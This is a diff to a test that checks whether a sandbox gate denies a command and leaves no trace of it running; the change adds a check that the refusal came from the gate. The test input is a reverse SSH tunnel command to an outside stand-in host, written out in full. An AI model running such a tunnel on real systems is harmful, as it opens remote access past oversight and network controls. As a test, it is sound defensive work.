@@ -208,7 +208,7 @@ def test_gate_denial_means_the_command_never_runs(workspace: Path) -> None:
     with Ledger.memory() as ledger, Sandbox("swe", workspace, ledger=ledger) as sb:
         r = sb.run("touch marker && ssh -fN -R 2222:localhost:22 ops@203.0.113.7")
         kinds = [rec.kind for rec in ledger.records()]
-    assert r.exit_code == 126
+    assert r.exit_code == 126 and r.refused == "gate"
     assert r.decision is not None and r.decision.category is not None
     assert not (workspace / "marker").exists()
     assert "exec" not in kinds and "decision" in kinds
